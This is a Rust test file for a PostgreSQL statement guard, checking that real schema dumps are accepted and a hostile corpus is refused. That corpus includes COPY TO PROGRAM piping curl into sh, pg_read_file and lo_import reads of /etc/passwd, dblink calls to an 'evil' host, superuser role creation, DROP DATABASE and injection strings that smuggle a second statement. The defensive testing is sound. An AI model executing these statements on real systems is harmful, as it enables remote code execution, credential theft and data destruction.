//! The guard against the real schema dumps and against every kind of statement it must refuse.

use super::lexer::{pg_lexer_statements, statement_kind};
use super::*;

/// The meta table of the schema dumps.
const META: &str = "SequelizeMeta";

/// The guard as the schema dumps' server needs it.
fn check_target_statement(sql: &str) -> Result<(), String> {
    target_statement_creates(sql, META).map(|_| ())
}

/// The query guard, its verdict only.
fn check_read_only_query(sql: &str) -> Result<(), String> {
    read_only_query_relations(sql).map(|_| ())
}

/// The 1.17.12 dumps the guest replays, compiled in so a changed dump re-runs the test.
const DUMPS: &[(&str, &str)] = &[
    ("pg-blocklet_db_APPDID.sql", include_str!("../../../../guest/schema/blocklet-1.17.12/pg-blocklet_db_APPDID.sql")),
    ("pg-module_db.sql", include_str!("../../../../guest/schema/blocklet-1.17.12/pg-module_db.sql")),
    ("pg-server_db.sql", include_str!("../../../../guest/schema/blocklet-1.17.12/pg-server_db.sql")),
    ("pg-service_db.sql", include_str!("../../../../guest/schema/blocklet-1.17.12/pg-service_db.sql")),
];

/// The dump's statements, split as the guest splits them (lines ending in `;`), without
/// the dump's own session settings.
fn dump_statements(dump: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    for line in dump.lines() {
        let trimmed = line.trim();
        if cur.is_empty() && (trimmed.is_empty() || trimmed.starts_with("--") || trimmed.starts_with('\\')) {
            continue;
        }
        if !cur.is_empty() {
            cur.push('\n');
        }
        cur.push_str(line);
        if trimmed.ends_with(';') {
            let sql = std::mem::take(&mut cur);
            if !(sql.starts_with("SET ") || sql.starts_with("SELECT pg_catalog.set_config")) {
                out.push(sql);
            }
        }
    }
    out
}

fn dumps() -> &'static [(&'static str, &'static str)] {
    // Every pg-*.sql of the schema dir is one of the dumps above.
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../guest/schema/blocklet-1.17.12");
    if let Ok(entries) = std::fs::read_dir(dir) {
        for entry in entries {
            let name = entry.unwrap().file_name().to_string_lossy().to_string();
            if name.starts_with("pg-") && name.ends_with(".sql") {
                assert!(DUMPS.iter().any(|(n, _)| *n == name), "{name} is not in DUMPS: add it");
            }
        }
    }
    DUMPS
}

#[test]
fn accepts_every_statement_of_every_schema_dump() {
    let mut total = 0;
    let mut kinds = std::collections::BTreeMap::<String, usize>::new();
    for (file, dump) in dumps() {
        let statements = dump_statements(dump);
        assert!(!statements.is_empty(), "{file}: no statements");
        for sql in statements {
            if let Err(e) = check_target_statement(&sql) {
                panic!("{file}: refused a schema statement:\n{sql}\n→ {e}");
            }
            *kinds.entry(statement_kind(&sql)).or_default() += 1;
            total += 1;
        }
    }
    assert!(total > 300, "only {total} statements");
    for kind in [
        "CREATE TYPE",
        "CREATE TABLE",
        "CREATE SEQUENCE",
        "ALTER SEQUENCE",
        "ALTER TABLE",
        "CREATE INDEX",
        "CREATE UNIQUE INDEX",
        "COMMENT ON",
    ] {
        assert!(kinds.contains_key(kind), "no {kind} in the dumps: {kinds:?}");
    }
}

#[test]
fn the_dump_session_settings_are_refused() {
    // The guest skips them; if it ever sent them they would be refused.
    for (_, dump) in dumps() {
        let mut cur = String::new();
        for line in dump.lines() {
            if line.starts_with("SET ") || line.starts_with("SELECT pg_catalog.set_config") {
                cur.push_str(line);
                assert!(check_target_statement(&cur).is_err(), "{cur}");
                cur.clear();
            }
        }
    }
}

const GENERATED: &[&str] = &[
    r#"DROP TABLE IF EXISTS public."users" CASCADE"#,
    r#"DROP TABLE IF EXISTS public."SequelizeMeta" CASCADE"#,
    r#"DROP TYPE IF EXISTS public."enum_access_keys_authType" CASCADE"#,
    r#"DROP TYPE IF EXISTS public."enum_notifications_severity" CASCADE"#,
    r#"DROP SEQUENCE IF EXISTS public."tags_id_seq" CASCADE"#,
    "SAVEPOINT enforce_key",
    "RELEASE SAVEPOINT enforce_key",
    "ROLLBACK TO SAVEPOINT enforce_key",
    r#"SELECT setval('public."tags_id_seq"', COALESCE((SELECT max("id") FROM public."tags"), 0) + 1, false)"#,
    r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('a'), ('b')"#,
    r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('20230101-add-x.js'), ('it''s.js')"#,
    // explain_duplicates, with and without a primary key
    r#"SELECT concat_ws(', ', 'id=' || coalesce(r."id"::text, 'NULL')), concat_ws(', ', r."did"::text, r."pk"::text) FROM public."users" r WHERE (r."did", r."pk") IN (SELECT "did", "pk" FROM public."users" GROUP BY "did", "pk" HAVING count(*) > 1) LIMIT 100"#,
    r#"SELECT 'ctid ' || r.ctid::text, concat_ws(', ', r."name"::text) FROM public."SequelizeMeta" r WHERE (r."name") IN (SELECT "name" FROM public."SequelizeMeta" GROUP BY "name" HAVING count(*) > 1) LIMIT 100"#,
    // explain_orphans
    r#"SELECT concat_ws(', ', 'id=' || coalesce(c."id"::text, 'NULL')), concat_ws(', ', c."userDid"::text) FROM public."passports" c WHERE c."userDid" IS NOT NULL AND NOT EXISTS (SELECT 1 FROM public."users" p WHERE p."did" = c."userDid") LIMIT 100"#,
    // a trailing semicolon is one statement
    "SAVEPOINT enforce_key;",
    "CREATE TABLE public.t (id integer NOT NULL, v text DEFAULT now()::text);",
    "-- a comment\nCREATE INDEX t_v ON public.t USING btree (v) /* trailing */",
];

#[test]
fn accepts_what_the_component_generates() {
    for sql in GENERATED {
        if let Err(e) = check_target_statement(sql) {
            panic!("refused a generated statement:\n{sql}\n→ {e}");
        }
    }
}

#[test]
fn read_only_queries_accept_checks_and_refuse_writes() {
    for sql in GENERATED.iter().filter(|s| s.starts_with("SELECT concat_ws") || s.starts_with("SELECT 'ctid")) {
        check_read_only_query(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    }
    check_read_only_query(r#"SELECT count(*) FROM public."users""#).unwrap();
    // to_sqlite reads a PostgreSQL source's sequence
    check_read_only_query(
        r#"SELECT CASE WHEN is_called THEN last_value ELSE last_value - 1 END FROM public."tags_id_seq""#,
    )
    .unwrap();
    check_read_only_query("SELECT 1").unwrap();
    for (sql, reason) in [
        (GENERATED[8], "setval"),
        ("SELECT nextval('public.tags_id_seq')", "nextval"),
        (r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('a')"#, "INSERT"),
        ("CREATE TABLE public.x (a int)", "CREATE TABLE"),
        ("SAVEPOINT enforce_key", "SAVEPOINT"),
        ("SELECT * FROM public.users FOR UPDATE", "FOR UPDATE"),
        ("WITH d AS (DELETE FROM public.users RETURNING *) SELECT * FROM d", "data-modifying"),
        ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    ] {
        let e = check_read_only_query(sql).expect_err(sql);
        assert!(e.contains(reason), "{sql}: expected {reason:?} in {e:?}");
    }
}

/// Hostile statements and a word the refusal must contain.
const HOSTILE: &[(&str, &str)] = &[
    ("CREATE TABLE a(x int); DROP DATABASE x", "2 statements in one string"),
    ("SELECT 1; SELECT 2", "2 statements"),
    ("SAVEPOINT a; ROLLBACK", "2 statements"),
    ("COPY public.users TO PROGRAM 'id'", "COPY"),
    ("COPY (SELECT 1) TO PROGRAM 'curl http://x | sh'", "COPY"),
    ("COPY public.users FROM PROGRAM 'cat /etc/passwd'", "COPY"),
    ("COPY public.users TO '/tmp/users.csv'", "COPY"),
    ("COPY public.users FROM '/etc/passwd'", "COPY"),
    ("COPY public.users FROM STDIN", "COPY"),
    ("ALTER SYSTEM SET archive_command = 'id'", "ALTER SYSTEM"),
    ("ALTER SYSTEM RESET ALL", "ALTER SYSTEM"),
    ("CREATE EXTENSION dblink", "CREATE EXTENSION"),
    ("CREATE EXTENSION IF NOT EXISTS plpython3u", "CREATE EXTENSION"),
    ("DROP DATABASE postgres", "DROP DATABASE"),
    ("DROP DATABASE IF EXISTS server_db", "DROP DATABASE"),
    ("DROP SCHEMA public CASCADE", "DROP SCHEMA"),
    ("DROP ROLE postgres", "DROP ROLE"),
    ("DROP EXTENSION plpgsql", "DROP EXTENSION"),
    ("DROP FUNCTION f()", "DROP FUNCTION"),
    ("CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'", "CREATE ROLE"),
    ("CREATE USER evil WITH SUPERUSER", "CREATE USER"),
    ("ALTER ROLE postgres PASSWORD 'x'", "ALTER ROLE"),
    ("ALTER USER postgres WITH PASSWORD 'x'", "ALTER USER"),
    ("SET ROLE postgres", "SET ROLE"),
    ("SET SESSION AUTHORIZATION postgres", "SET SESSION AUTHORIZATION"),
    ("SET search_path = pg_temp, public", "SET"),
    ("SET LOCAL statement_timeout = 0", "SET"),
    ("RESET ROLE", "RESET"),
    ("RESET ALL", "RESET"),
    ("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", "GRANT"),
    ("GRANT pg_read_server_files TO current_user", "GRANT"),
    ("REVOKE ALL ON public.users FROM PUBLIC", "REVOKE"),
    ("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "CREATE FUNCTION"),
    (
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN RETURN 1; END $f$",
        "CREATE OR REPLACE FUNCTION",
    ),
    ("CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$", "CREATE PROCEDURE"),
    ("CREATE TRIGGER t BEFORE INSERT ON public.users FOR EACH ROW EXECUTE FUNCTION f()", "CREATE TRIGGER"),
    ("CREATE RULE r AS ON INSERT TO public.users DO INSTEAD NOTHING", "CREATE RULE"),
    ("CREATE VIEW public.v AS SELECT 1", "CREATE VIEW"),
    ("CREATE SCHEMA evil", "CREATE SCHEMA"),
    ("DO $$ BEGIN PERFORM pg_sleep(10); END $$", "DO"),
    ("CALL p()", "CALL"),
    ("LISTEN x", "LISTEN"),
    ("NOTIFY x, 'y'", "NOTIFY"),
    ("UNLISTEN *", "UNLISTEN"),
    ("VACUUM FULL", "VACUUM"),
    ("ANALYZE public.users", "ANALYZE"),
    ("TRUNCATE public.users", "TRUNCATE"),
    ("TRUNCATE \"SequelizeMeta\"", "TRUNCATE"),
    ("DELETE FROM public.users", "DELETE"),
    ("UPDATE public.users SET role = 'owner'", "UPDATE"),
    ("INSERT INTO public.users (did) VALUES ('x')", "INSERT INTO public.users"),
    ("INSERT INTO pg_catalog.pg_authid (rolname) VALUES ('x')", "INSERT"),
    (r#"INSERT INTO public."SequelizeMeta" (name) SELECT pg_read_file('/etc/passwd')"#, "VALUES"),
    (r#"INSERT INTO public."SequelizeMeta" (name) VALUES (pg_read_file('/etc/passwd'))"#, "string literals"),
    (r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('a') ON CONFLICT DO NOTHING"#, "INSERT"),
    (r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('a') RETURNING *"#, "INSERT"),
    ("SELECT * INTO public.stolen FROM public.users", "SELECT … INTO"),
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    ("SELECT pg_read_binary_file('/etc/passwd')", "pg_read_binary_file"),
    ("SELECT * FROM pg_ls_dir('/')", "pg_ls_dir"),
    ("SELECT pg_stat_file('/etc/passwd')", "pg_stat_file"),
    ("SELECT lo_import('/etc/passwd')", "lo_import"),
    ("SELECT lo_export(16385, '/tmp/x')", "lo_export"),
    ("SELECT lo_from_bytea(0, 'x')", "lo_from_bytea"),
    ("SELECT dblink_exec('host=evil', 'x')", "dblink_exec"),
    ("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "dblink"),
    ("SELECT pg_sleep(3600)", "pg_sleep"),
    ("SELECT set_config('role', 'postgres', false)", "set_config"),
    ("SELECT pg_terminate_backend(1)", "pg_terminate_backend"),
    ("SELECT pg_cancel_backend(1)", "pg_cancel_backend"),
    ("SELECT pg_reload_conf()", "pg_reload_conf"),
    ("SELECT pg_rotate_logfile()", "pg_rotate_logfile"),
    ("SELECT current_setting('data_directory')", "current_setting"),
    ("SELECT query_to_xml('select * from pg_authid', true, true, '')", "query_to_xml"),
    ("SELECT pg_catalog.max(1)", "schema-qualified"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "schema-qualified"),
    ("SELECT \"pg_read_file\"('/etc/passwd')", "pg_read_file"),
    ("SELECT PG_READ_FILE('/etc/passwd')", "PG_READ_FILE"),
    ("SELECT max(id) FROM public.users WHERE pg_sleep(1) IS NULL", "pg_sleep"),
    ("SELECT count(*) FROM (SELECT pg_read_file('/etc/passwd')) s", "pg_read_file"),
    ("SELECT coalesce((SELECT pg_ls_dir('.') LIMIT 1), '')", "pg_ls_dir"),
    ("SELECT * FROM pg_catalog.pg_authid", "schema public"),
    ("SELECT * FROM pg_shadow", "pg_"),
    ("SELECT * FROM information_schema.tables", "schema public"),
    ("SELECT * FROM generate_series(1, 10)", "table function"),
    ("SELECT setval('pg_catalog.x', 1)", "setval"),
    ("SELECT setval(current_setting('x'), 1)", "setval"),
    ("SELECT setval((SELECT 'public.x'), 1)", "setval"),
    ("CREATE TABLE public.t (a text DEFAULT pg_read_file('/etc/passwd'))", "pg_read_file"),
    ("CREATE TABLE public.t AS SELECT * FROM public.users", "CREATE TABLE … AS"),
    ("CREATE TABLE pg_catalog.t (a int)", "schema public"),
    ("CREATE INDEX i ON public.t USING btree (lower(pg_read_file('/x')))", "pg_read_file"),
    ("CREATE INDEX i ON public.t USING bloom (a)", "USING"),
    ("CREATE TYPE public.t AS (a int)", "enum"),
    ("CREATE TYPE public.r AS RANGE (subtype = int4)", "enum"),
    ("ALTER TABLE public.users OWNER TO evil", "ALTER TABLE"),
    ("ALTER TABLE public.users ENABLE ROW LEVEL SECURITY", "ALTER TABLE"),
    ("ALTER TABLE public.users ADD CONSTRAINT c CHECK (pg_sleep(1) IS NULL)", "ADD CONSTRAINT"),
    ("ALTER TABLE public.users ALTER COLUMN did SET DEFAULT pg_read_file('/etc/passwd')", "pg_read_file"),
    ("ALTER TABLE ONLY public.t ALTER COLUMN id SET DEFAULT nextval('pg_catalog.x'::regclass)", "nextval"),
    ("ALTER SEQUENCE public.s RESTART WITH 1", "ALTER SEQUENCE"),
    ("ALTER SEQUENCE public.s OWNED BY public.t.id; DROP DATABASE x", "2 statements"),
    ("ALTER SEQUENCE pg_catalog.s OWNED BY public.t.id", "schema public"),
    ("ALTER DATABASE server_db SET search_path = evil", "ALTER DATABASE"),
    ("COMMENT ON DATABASE postgres IS 'x'", "COMMENT ON DATABASE"),
    ("COMMENT ON FUNCTION f() IS 'x'", "COMMENT ON"),
    ("ROLLBACK", "ROLLBACK"),
    ("COMMIT", "COMMIT"),
    ("BEGIN", "BEGIN"),
    ("PREPARE TRANSACTION 'x'", "PREPARE"),
    ("PREPARE p AS SELECT 1", "PREPARE"),
    ("EXECUTE p", "EXECUTE"),
    ("LOAD 'plpgsql'", "LOAD"),
    ("LOCK TABLE public.users", "LOCK"),
    ("CHECKPOINT", "CHECKPOINT"),
    ("DISCARD ALL", "DISCARD"),
    ("EXPLAIN ANALYZE SELECT pg_sleep(1)", "EXPLAIN"),
    ("SECURITY LABEL ON TABLE public.users IS 'x'", "SECURITY LABEL"),
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "CREATE SERVER"),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public", "IMPORT"),
    ("REFRESH MATERIALIZED VIEW v", "REFRESH"),
    ("CLUSTER public.users", "CLUSTER"),
    ("REINDEX DATABASE postgres", "REINDEX"),
    (
        "WITH x AS (INSERT INTO public.\"SequelizeMeta\" (name) VALUES ('a') RETURNING *) SELECT * FROM x",
        "data-modifying",
    ),
    ("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c", "WITH RECURSIVE"),
    ("SELECT (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT max(x) FROM c)", "WITH RECURSIVE"),
    ("", "empty"),
    ("   -- only a comment\n", "empty"),
    ("SELECT 'unterminated", "unterminated"),
    ("SELECT 1 /* unterminated", "unterminated"),
    ("CREATE TABLE public.t (a int)\0; DROP DATABASE x", "control character"),
    ("this is not sql", "refused THIS"),
    ("SELECT FROM WHERE", "SELECT statement that does not parse"),
    ("CREATE TABLE (", "CREATE TABLE statement that does not parse"),
];

#[test]
fn refuses_the_hostile_corpus_with_the_right_reason() {
    assert!(HOSTILE.len() >= 20);
    let mut wrong = Vec::new();
    for (sql, reason) in HOSTILE {
        match check_target_statement(sql) {
            Ok(()) => wrong.push(format!("ACCEPTED: {sql}")),
            Err(e) if !e.contains(reason) => wrong.push(format!("{sql}\n   expected {reason:?} in: {e}")),
            Err(e) => assert!(e.starts_with("refused"), "{e}"),
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn every_hostile_statement_is_also_refused_as_a_query() {
    for (sql, _) in HOSTILE {
        assert!(check_read_only_query(sql).is_err(), "{sql}");
    }
}

/// Text where sqlparser and PostgreSQL could disagree about where a statement ends.
#[test]
fn refuses_statements_smuggled_through_lexer_differences() {
    for sql in [
        // Backslash is literal in a standard string: PostgreSQL ends the string at \'.
        r"SELECT 'a\'; DROP TABLE public.users; --'",
        // With standard_conforming_strings off it would be the reverse.
        r"SELECT E'a\''; DROP TABLE public.users; --'",
        r"SELECT $a$ $a$; DROP TABLE public.users",
        r#"SELECT 1 AS "x"";"; DROP TABLE public.users"#,
        "SELECT 1 -- comment\n; DROP TABLE public.users",
        "SELECT 1 /* a */; DROP TABLE public.users",
    ] {
        let e = check_target_statement(sql).expect_err(sql);
        assert!(e.contains("statements in one string"), "{sql}: {e}");
    }
    // One statement in PostgreSQL's eyes, whatever is inside quotes and nested comments.
    for sql in [
        "SELECT 'a;b'",
        "SELECT 'it''s; fine'",
        r"SELECT E'a\';b'",
        "SELECT $$ ; $$",
        "SELECT $tag$ ; $x$ ; $tag$",
        r#"SELECT 1 AS "a;b""#,
        "SELECT 1 /* nested /* ; */ still ; comment */",
        "SELECT 1 -- ; trailing comment",
        "SELECT 1;",
        "SELECT 1;  \n -- done\n",
    ] {
        assert_eq!(pg_lexer_statements(sql, true), Ok(1), "{sql}");
    }
    // A nested comment PostgreSQL keeps open: what follows is comment, not a statement.
    assert_eq!(pg_lexer_statements("SELECT 1 /* /* */ ; DROP TABLE public.users; */", true), Ok(1));
    if let Err(e) = check_target_statement("SELECT 1 /* /* */ ; DROP TABLE public.users; */") {
        assert!(!e.contains("statements in one string"), "{e}");
    }
}

#[test]
fn refuses_oversized_and_deeply_nested_statements() {
    let big = format!(r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('{}')"#, "x".repeat(MAX_STATEMENT_BYTES));
    assert!(check_target_statement(&big).unwrap_err().contains("limit"));
    let deep = format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000));
    assert!(check_target_statement(&deep).is_err());
    let deep_sub = format!("SELECT {}1{}", "(SELECT ".repeat(2_000), ")".repeat(2_000));
    assert!(check_target_statement(&deep_sub).is_err());
}

#[test]
fn alter_sequence_owned_by_forms() {
    for ok in [
        "ALTER SEQUENCE public.tags_id_seq OWNED BY public.tags.id;",
        "ALTER SEQUENCE public.\"x_id_seq\" OWNED BY public.\"x\".\"id\"",
        "alter sequence tags_id_seq owned by tags.id",
        "ALTER SEQUENCE public.tags_id_seq /* c */ OWNED BY public.tags.id -- c",
    ] {
        check_target_statement(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
    }
    for bad in [
        "ALTER SEQUENCE public.s OWNED BY NONE x",
        "ALTER SEQUENCE public.s OWNED BY public.t.id CASCADE",
        "ALTER SEQUENCE public.s OWNER TO evil",
        "ALTER SEQUENCE public.s OWNED BY col",
        "ALTER SEQUENCE public.s OWNED BY pg_catalog.pg_authid.oid",
        "ALTER SEQUENCE public.s OWNED BY public.t.id;;",
    ] {
        assert!(check_target_statement(bad).is_err(), "{bad}");
        assert!(check_read_only_query(bad).is_err(), "{bad}");
    }
}

#[test]
fn statement_kinds_for_messages() {
    assert_eq!(statement_kind("copy x to program 'id'"), "COPY");
    assert_eq!(statement_kind("  ALTER SYSTEM SET x = 1"), "ALTER SYSTEM");
    assert_eq!(statement_kind("/* x */ CREATE OR REPLACE FUNCTION f()"), "CREATE OR REPLACE FUNCTION");
    assert_eq!(statement_kind("SET SESSION AUTHORIZATION x"), "SET SESSION AUTHORIZATION");
    assert_eq!(statement_kind("CREATE UNIQUE INDEX x ON y (z)"), "CREATE UNIQUE INDEX");
    assert_eq!(statement_kind(""), "an empty statement");
}

#[test]
fn the_meta_table_is_the_one_the_conventions_name() {
    let insert = |table: &str| format!(r#"INSERT INTO public."{table}" (name) VALUES ('a')"#);
    target_statement_creates(&insert("schema_log"), "schema_log").unwrap();
    let e = target_statement_creates(&insert(META), "schema_log").unwrap_err();
    assert!(e.contains(r#"only "schema_log" may be inserted into"#), "{e}");
}

#[test]
fn a_query_names_the_relations_it_reads_and_a_statement_the_one_it_creates() {
    let read = read_only_query_relations(
        r#"WITH x AS (SELECT * FROM a) SELECT * FROM x JOIN "B" ON true JOIN public.C ON true WHERE 1 IN (SELECT 1 FROM d)"#,
    )
    .unwrap();
    assert_eq!(read, ["a", "B", "c", "d"], "its own WITH query is not a relation");
    let creates = |sql: &str| target_statement_creates(sql, META).unwrap();
    assert_eq!(creates(r#"CREATE TABLE public."Users" (id integer)"#).as_deref(), Some("Users"));
    assert_eq!(creates("CREATE SEQUENCE public.users_id_seq").as_deref(), Some("users_id_seq"));
    assert_eq!(creates("CREATE INDEX i ON public.users (id)"), None);
}
